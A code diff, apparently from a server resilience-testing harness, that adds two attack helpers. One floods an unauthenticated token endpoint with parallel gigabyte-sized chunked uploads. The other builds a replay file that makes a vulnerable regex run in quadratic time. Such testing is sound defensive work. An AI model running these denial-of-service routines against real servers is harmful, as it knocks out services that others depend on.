@@ -77,3 +77,53 @@ class Running:
 
 def start(attack: Callable[..., Any], *args: Any, limit: float = 120.0) -> Running:
     return Running(attack, *args, limit=limit)
+
+
+async def oversized_bodies(
+    host: str, port: int, bodies: int, seconds: float, size: int = 2**30
+) -> dict[str, int]:
+    """``bodies`` parallel chunked multipart uploads of ``size`` bytes each to
+    ``obtain_token`` (no Content-Length, no credentials), written as fast as the
+    server reads them, until the server answers or closes, or time is up."""
+    counts = {"sent_mib": 0, "answered": 0, "closed": 0}
+    deadline = time.monotonic() + seconds
+    chunk = b"0" * 65536
+    framed = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
+
+    async def send_one() -> None:
+        try:
+            reader, writer = await asyncio.open_connection(host, port)
+        except OSError:
+            counts["closed"] += 1
+            return
+        writer.write(
+            b"POST /api/obtain_token HTTP/1.1\r\nHost: victim\r\n"
+            b"Content-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n"
+        )
+        head = b'--x\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n'
+        writer.write(f"{len(head):x}\r\n".encode() + head + b"\r\n")
+        sent = 0
+        answer: asyncio.Task[bytes] = asyncio.ensure_future(reader.read(1024))
+        try:
+            while sent < size and time.monotonic() < deadline and not answer.done():
+                writer.write(framed)
+                sent += len(chunk)
+                await asyncio.wait_for(writer.drain(), max(0.1, deadline - time.monotonic()))
+        except (OSError, asyncio.TimeoutError):
+            pass
+        counts["sent_mib"] += sent >> 20
+        if answer.done() and not answer.cancelled() and answer.exception() is None:
+            counts["answered" if answer.result() else "closed"] += 1
+        answer.cancel()
+        writer.close()
+
+    await asyncio.gather(*(send_one() for _ in range(bodies)))
+    return counts
+
+
+def crafted_avf(template: bytes, key: str, digits: int = 40_000) -> bytes:
+    """An AVF replay whose version line holds ``digits`` digits (a regex with
+    nested repetition takes quadratic time on it), keyed for ``key``."""
+    skin = template.index(b"Skin:")
+    line_end = template.index(b"\r", skin)
+    return template[: line_end + 1] + key.encode() + b"\r" + b"1" * digits
